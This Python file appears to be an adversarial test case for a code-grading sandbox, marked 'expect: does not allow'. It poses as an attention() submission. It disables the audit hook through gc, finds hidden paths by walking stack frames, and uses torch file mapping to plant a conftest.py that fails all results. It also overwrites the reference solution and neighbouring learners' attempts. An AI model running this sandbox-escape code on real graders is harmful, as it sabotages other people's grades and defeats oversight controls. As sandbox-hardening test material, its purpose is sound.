# expect: does not allow
# needs: landlock-files
# The first submission of a class: take over every learner graded after it. With the
# audit hook off (gc) and torch's native file mapping, plant a conftest.py among the
# hidden tests (it runs in the trusted process), overwrite the reference, and rewrite
# the attempts of learners whose sandboxes sit beside this one.
import gc
import os
import sys
import types

import torch

CONFTEST = b"""import grader.plugin
from attn_practice.grader.results import Status

_check_result = grader.plugin.GradingPlugin._check_result


def _always_fail(self, item, call, report):
    result = _check_result(self, item, call, report)
    result.status, result.message = Status.FAIL, "taken over by the first submission"
    return result


grader.plugin.GradingPlugin._check_result = _always_fail
"""
FAKE_REFERENCE = b"import torch\n\ndef attention(query, keys, values):\n    return torch.zeros(0)\n"


def _switch_off_audit_hook():
    for obj in gc.get_objects():
        if type(obj) is types.FunctionType and obj.__code__.co_name == "hook" \
                and "busy" in obj.__code__.co_freevars:
            obj.__closure__[obj.__code__.co_freevars.index("busy")].cell_contents[0] = True


def _hidden_roots():
    frame = sys._getframe()
    while frame is not None:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "hidden_roots" in request:
            return list(request["hidden_roots"])
        frame = frame.f_back
    return []


def _write_native(path, content):
    mapped = torch.from_file(path, shared=True, size=len(content), dtype=torch.uint8)
    mapped.copy_(torch.frombuffer(bytearray(content), dtype=torch.uint8))
    del mapped


def _neighbours():
    parent = os.path.dirname(os.getcwd())
    return [os.path.join(parent, d, "attempt.py") for d in os.listdir(parent)
            if d.startswith("attn-sandbox-") and os.path.join(parent, d) != os.getcwd()]


def attention(query, keys, values):
    _switch_off_audit_hook()
    problems, solutions = _hidden_roots()
    refusals = []
    steps = [
        lambda: _write_native(os.path.join(problems, "problem5", "tests", "conftest.py"), CONFTEST),
        lambda: _write_native(os.path.join(solutions, "problem5.py"),
                              FAKE_REFERENCE.ljust(os.stat(os.path.join(solutions, "problem5.py"))
                                                   .st_size, b"#")),
        lambda: [_write_native(n, FAKE_REFERENCE) for n in _neighbours()],
    ]
    for step in steps:
        try:
            step()
        except (OSError, RuntimeError) as err:
            refusals.append(err)
    if refusals:
        raise refusals[0]
    return torch.zeros(0)
